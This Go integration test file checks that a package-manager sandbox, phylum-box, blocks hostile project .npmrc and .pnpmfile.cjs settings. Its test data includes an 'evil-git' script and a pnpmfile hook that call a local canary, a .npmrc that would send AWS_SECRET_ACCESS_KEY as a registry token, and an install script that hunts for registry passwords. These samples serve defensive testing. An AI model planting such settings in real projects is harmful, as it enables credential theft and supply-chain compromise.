package integration

import (
	"crypto/sha1"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// A cloned project's .npmrc is attacker input (issue 9): it may not make phylum-box
// mount or chown a host path, run a program in a step that has the network and the
// user's token, send an environment variable as a token, or show URL credentials to
// install scripts. Each attack has its legitimate twin, root and rootless.

// npmLocalRegistry serves packuments and tarballs from 127.0.0.1, optionally
// demanding an Authorization header, and records the ones it was sent.
type npmLocalRegistry struct {
	*regServer
	t    testing.TB
	mu   sync.Mutex
	docs map[string]map[string]any // name → packument
	tgz  map[string][]byte         // URL path → tarball
	auth []string
	// want, when set, is the Authorization header every packument request must
	// carry (npm sends a registry URL's userinfo for the registry's metadata; the
	// tarball URLs carry none).
	want string
}

func startNpmLocalRegistry(t testing.TB, wantAuth string) *npmLocalRegistry {
	t.Helper()
	reg := &npmLocalRegistry{t: t, docs: map[string]map[string]any{}, tgz: map[string][]byte{}, want: wantAuth}
	reg.regServer = regServe(t, t.TempDir(), func(s *regServer, w http.ResponseWriter, r *http.Request) bool {
		reg.mu.Lock()
		defer reg.mu.Unlock()
		reg.auth = append(reg.auth, r.Header.Get("Authorization"))
		p, _ := url.PathUnescape(r.URL.EscapedPath())
		if reg.want != "" && r.Header.Get("Authorization") != reg.want && !strings.HasSuffix(p, ".tgz") {
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return true
		}
		if data, ok := reg.tgz[p]; ok {
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Write(data)
			return true
		}
		if doc, ok := reg.docs[strings.TrimPrefix(p, "/")]; ok {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(doc)
			return true
		}
		http.NotFound(w, r)
		return true
	})
	return reg
}

// Add publishes name@version with the given extra package.json fields and files.
func (reg *npmLocalRegistry) Add(name, version string, manifest map[string]any, files map[string]string) {
	reg.t.Helper()
	pj := map[string]any{"name": name, "version": version}
	for k, v := range manifest {
		pj[k] = v
	}
	data, _ := json.Marshal(pj)
	all := map[string]string{"package.json": string(data)}
	for k, v := range files {
		all[k] = v
	}
	tgz := regTarGz(reg.t, "package/", all)
	base := name[strings.LastIndex(name, "/")+1:]
	path := fmt.Sprintf("/%s/-/%s-%s.tgz", name, base, version)
	s512 := sha512.Sum512(tgz)
	s1 := sha1.Sum(tgz)
	ver := map[string]any{}
	for k, v := range pj {
		ver[k] = v
	}
	ver["dist"] = map[string]any{"tarball": reg.URL + path, "integrity": "sha512-" + base64.StdEncoding.EncodeToString(s512[:]), "shasum": hex.EncodeToString(s1[:])}
	reg.mu.Lock()
	defer reg.mu.Unlock()
	reg.tgz[path] = tgz
	reg.docs[name] = map[string]any{
		"name": name, "dist-tags": map[string]any{"latest": version},
		"versions": map[string]any{version: ver},
		"time":     map[string]any{version: "2020-01-01T00:00:00.000Z", "created": "2020-01-01T00:00:00.000Z", "modified": "2020-01-01T00:00:00.000Z"},
	}
}

func (reg *npmLocalRegistry) Auth() []string {
	reg.mu.Lock()
	defer reg.mu.Unlock()
	return append([]string(nil), reg.auth...)
}

func writeProjectFile(t testing.TB, b *pmBox, rel, content string) {
	t.Helper()
	writeFile(t, filepath.Join(b.Project, rel), content, 0o644)
	chownTree(t, b.Mode, b.Project)
}

// A project cache= (npm) or store-dir= (pnpm) naming a path outside the project is
// refused before anything runs: nothing is created there (so nothing is mounted or
// chowned); the same setting inside the project works and the cache lands there.
func TestProjectNpmrcCachePaths(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	requireTool(t, "pnpm")
	forEachMode(t, func(t *testing.T, m mode) {
		for _, c := range []struct{ tool, key string }{{"npm", "cache"}, {"pnpm", "store-dir"}} {
			t.Run(c.tool, func(t *testing.T) {
				b := newPMBox(t, m)
				outside := filepath.Join(b.Home, "pbox-outside-"+c.tool)
				for _, bad := range []string{outside, "~/pbox-tilde-" + c.tool, "../../pbox-up-" + c.tool} {
					writeProjectFile(t, b, ".npmrc", "save-exact=true\n"+c.key+"="+bad+"\n")
					before, home := projectState(t, b.Project), pmHomeHash(b)
					r := b.tool("", c.tool, "install", "lodash@4.17.21")
					wantCode(t, r, 2, c.key+"="+bad)
					wantStderr(t, r, ".npmrc:2", c.key, "outside the project", "~/.npmrc")
					assertSameTree(t, before, projectState(t, b.Project), "a refused .npmrc")
					assertSameTree(t, home, pmHomeHash(b), "the caller's home after a refused .npmrc")
					for _, p := range []string{outside, filepath.Join(b.Home, "pbox-tilde-"+c.tool), filepath.Join(b.Home, "pbox-up-"+c.tool)} {
						if pathExists(p) {
							t.Errorf("%s was created", p)
						}
					}
				}

				// The twin: a cache inside the project is accepted; phylum-box keeps
				// its own cache location (the project is an overlay in the sandbox),
				// so nothing is written there and nothing is refused at the sync.
				writeProjectFile(t, b, ".npmrc", c.key+"=./.pbox-cache\n")
				r := b.tool("", c.tool, "install", "lodash@4.17.21")
				wantCode(t, r, 0, c.key+"=./.pbox-cache")
				wantFile(t, filepath.Join(b.Project, "node_modules", "lodash", "package.json"), "lodash installed")
				if pathExists(filepath.Join(b.Project, ".pbox-cache")) {
					t.Errorf("the in-project %s was written on the host", c.key)
				}
			})
		}
	})
}

// git= in a project .npmrc names a program npm runs for a git dependency in the
// resolve step, which has the network and the user's token: phylum-box leaves it
// out of that step (the real git runs, and fails to reach the dead host), so the
// program never runs. Its twin, a project script-shell/node-options, is honoured in
// the offline build step.
func TestProjectNpmrcExecSettings(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		canary := regStartCanary(t)
		dead, _ := loopbackListener(t) // accepts and closes: git fails at once
		// "--": without it node took git's first argument (--no-replace-objects) for
		// its own option and exited before reaching the canary.
		evil := fmt.Sprintf("#!/bin/sh\nexec node -e \"require('net').connect(%d,'127.0.0.1',function(){this.end('PBOX-EVIL-GIT '+process.argv.join(' '))})\" -- \"$@\"\n", canary.Port)
		writeFile(t, filepath.Join(b.Project, "evil-git"), evil, 0o755)
		writeProjectFile(t, b, ".npmrc", "fetch-retries=0\ngit="+filepath.Join(b.Project, "evil-git")+"\n")
		r := b.tool("", "npm", "install", fmt.Sprintf("git+ssh://git@127.0.0.1:%d/x/y.git", dead))
		if r.Code == 0 {
			t.Fatalf("a git dependency on a dead host installed:\n%s", r)
		}
		for _, got := range canary.Got() {
			if strings.Contains(got, "PBOX-EVIL-GIT") {
				t.Errorf("the project's git= program ran: %q", got)
			}
		}

		// The twin: node-options from the project reaches the build step's scripts.
		reg := startNpmLocalRegistry(t, "")
		reg.Add("pbox-opts", "1.0.0", map[string]any{"scripts": map[string]string{
			"postinstall": `node -e "console.log('PBOX-NODE-OPTIONS=' + process.env.NODE_OPTIONS)"`}}, nil)
		writeProjectFile(t, b, ".npmrc", "registry="+reg.URL+"/\nnode-options=--no-warnings\n")
		r = b.tool("", "npm", "install", "pbox-opts@1.0.0")
		wantCode(t, r, 0, "a project node-options")
		if !strings.Contains(r.Stdout+r.Stderr, "PBOX-NODE-OPTIONS=--no-warnings") {
			t.Errorf("the build step did not honour the project's node-options:\n%s", r)
		}
	})
}

// registry= plus an auth line reading ${AWS_SECRET_ACCESS_KEY} in a project .npmrc
// would make npm send that variable as a bearer token: refused (file:line, the
// variable, the advice), and the 127.0.0.1 registry receives nothing. The twin: a
// project .npmrc with a scoped registry and ${NPM_TOKEN} in the user's ~/.npmrc
// installs, with the token sent.
func TestProjectNpmrcEnvToken(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	requireTool(t, "pnpm")
	forEachMode(t, func(t *testing.T, m mode) {
		for _, tool := range []string{"npm", "pnpm"} {
			t.Run(tool, func(t *testing.T) {
				b := newPMBox(t, m)
				canary := regStartCanary(t)
				host := fmt.Sprintf("127.0.0.1:%d", canary.Port)
				writeProjectFile(t, b, ".npmrc", "registry=http://"+host+"/\n//"+host+"/:_authToken=${AWS_SECRET_ACCESS_KEY}\n")
				b.Env = append(b.Env, "AWS_SECRET_ACCESS_KEY="+b.Mark)
				r := b.tool("", tool, "install", "lodash@4.17.21")
				wantCode(t, r, 2, "a project .npmrc reading $AWS_SECRET_ACCESS_KEY")
				wantStderr(t, r, ".npmrc:2", "AWS_SECRET_ACCESS_KEY", "~/.npmrc")
				if strings.Contains(r.Stdout+r.Stderr, b.Mark) {
					t.Errorf("the variable's value was printed")
				}
				if got := canary.Got(); len(got) != 0 {
					t.Errorf("the registry named by the project was reached: %q", got)
				}

				// The twin.
				token := "pbox-npm-token-" + tool
				reg := startNpmLocalRegistry(t, "Bearer "+token)
				reg.Add("@pbox/hello", "1.0.0", nil, map[string]string{"index.js": "module.exports = 'hello'\n"})
				rhost := strings.TrimPrefix(reg.URL, "http://")
				writeProjectFile(t, b, ".npmrc", "@pbox:registry="+reg.URL+"/\n")
				writeFile(t, filepath.Join(b.Home, ".npmrc"), "//"+rhost+"/:_authToken=${NPM_TOKEN}\n", 0o600)
				chownTree(t, m, b.Home)
				b.Env = append(b.Env, "NPM_TOKEN="+token)
				r = b.tool("", tool, "add", "@pbox/hello@1.0.0") // npm add is npm install
				wantCode(t, r, 0, "a scoped registry with the user's ${NPM_TOKEN}")
				wantFile(t, filepath.Join(b.Project, "node_modules", "@pbox", "hello", "index.js"), "@pbox/hello installed")
				sent := false
				for _, a := range reg.Auth() {
					sent = sent || a == "Bearer "+token
				}
				if !sent {
					t.Errorf("the user's token was not sent: %q", reg.Auth())
				}
			})
		}
	})
}

// A registry URL with user:password@ works for the networked steps, and an install
// script sees neither the password in any .npmrc it can read nor in its environment.
func TestProjectNpmrcURLUserinfo(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		pass := "pboxpw" + b.Mark
		reg := startNpmLocalRegistry(t, "Basic "+base64.StdEncoding.EncodeToString([]byte("bob:"+pass)))
		// The needle is spelt in two halves: the script is in its own environment.
		script := `node -e "const fs=require('fs');const pw='pbox'+'pw';let s=JSON.stringify(process.env);const seen=[];` +
			`for (const [k,v] of Object.entries(process.env)) { if (v.includes(pw)) seen.push('env:'+k) }` +
			`for (const f of [process.env.HOME+'/.npmrc', process.env.INIT_CWD+'/.npmrc']) { try { const d=fs.readFileSync(f,'utf8'); s += d; if (d.includes(pw)) seen.push(f) } catch (e) {} }` +
			`console.log('PBOX-USERINFO-SEEN=' + s.includes(pw) + ' PBOX-NPMRC-READ=' + s.includes('registry') + ' in ' + seen.join(','))"`
		reg.Add("pbox-peek", "1.0.0", map[string]any{"scripts": map[string]string{"postinstall": script}}, nil)
		for _, where := range []string{"project", "user"} {
			line := "registry=http://bob:" + pass + "@" + strings.TrimPrefix(reg.URL, "http://") + "/\n"
			if where == "project" {
				writeProjectFile(t, b, ".npmrc", line)
			} else {
				os.Remove(filepath.Join(b.Project, ".npmrc"))
				os.RemoveAll(filepath.Join(b.Project, "node_modules"))
				os.Remove(filepath.Join(b.Project, "package-lock.json"))
				writeFile(t, filepath.Join(b.Home, ".npmrc"), line, 0o600)
				chownTree(t, m, b.Home)
			}
			r := b.tool("", "npm", "install", "pbox-peek@1.0.0")
			wantCode(t, r, 0, "a registry URL with userinfo in the "+where+" .npmrc")
			out := r.Stdout + r.Stderr
			if !strings.Contains(out, "PBOX-USERINFO-SEEN=false PBOX-NPMRC-READ=true in \n") {
				t.Errorf("%s .npmrc: the install script saw the registry password (or read no .npmrc):\n%s", where, r)
			}
		}
	})
}

// A project .pnpmfile.cjs would run in pnpm's resolve and download steps, with the
// network and the user's token. phylum-box runs it only in an offline step after
// resolving: a hook that adds a dependency works (is-odd is installed and in the
// lockfile), and its attempt to reach a 127.0.0.1 listener fails every time it
// runs. A hook that writes anything but the lockfile stops the install; a frozen
// install, which cannot be driven so, is refused with the way out.
func TestProjectPnpmfile(t *testing.T) {
	t.Parallel()
	requireTool(t, "pnpm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		canary := regStartCanary(t)
		hook := fmt.Sprintf("require('net').connect(%d, '127.0.0.1', function () { this.end('PBOX-PNPMFILE') }).on('error', () => {})\n"+
			"module.exports = { hooks: { readPackage (pkg) {\n"+
			"  if (pkg.name === 'pbox-it') pkg.dependencies = Object.assign({}, pkg.dependencies, { 'is-odd': '3.0.1' })\n"+
			"  return pkg\n} } }\n", canary.Port)
		writeProjectFile(t, b, ".pnpmfile.cjs", hook)
		r := b.tool("", "pnpm", "add", "lodash@4.17.21")
		wantCode(t, r, 0, "pnpm add with a project pnpmfile that adds a dependency")
		wantStderr(t, r, "resolution hooks in the sandbox (no network, no credentials)")
		for _, dep := range []string{"lodash", "is-odd"} {
			wantFile(t, filepath.Join(b.Project, "node_modules", dep, "package.json"), dep+" installed")
		}
		lock, err := os.ReadFile(filepath.Join(b.Project, "pnpm-lock.yaml"))
		if err != nil || !strings.Contains(string(lock), "is-odd@3.0.1") || !strings.Contains(string(lock), "pnpmfileChecksum:") {
			t.Errorf("the lockfile lacks the hook's dependency or its checksum (%v):\n%s", err, lock)
		}
		for _, got := range canary.Got() {
			if strings.Contains(got, "PBOX-PNPMFILE") {
				t.Errorf("the pnpmfile reached the network: %q", got)
			}
		}

		before := projectState(t, b.Project)
		r = b.tool("", "pnpm", "install", "--frozen-lockfile")
		wantCode(t, r, 2, "a frozen install with a pnpmfile")
		wantStderr(t, r, ".pnpmfile.cjs", "--ignore-pnpmfile")
		assertSameTree(t, before, projectState(t, b.Project), "a refused pnpmfile")

		// A hook that writes beside the lockfile while resolving.
		b = newPMBox(t, m)
		writeProjectFile(t, b, ".pnpmfile.cjs", "if (process.argv.includes('--lockfile-only')) require('fs').writeFileSync('pnpm-workspace.yaml', 'packages: []\\nregistry: http://127.0.0.1:9/\\n')\n"+
			"module.exports = {}\n")
		before = projectState(t, b.Project)
		r = b.tool("", "pnpm", "add", "lodash@4.17.21")
		wantCode(t, r, 4, "a pnpmfile writing pnpm-workspace.yaml")
		wantStderr(t, r, "changed pnpm-workspace.yaml")
		assertSameTree(t, before, projectState(t, b.Project), "a stopped install")
	})
}
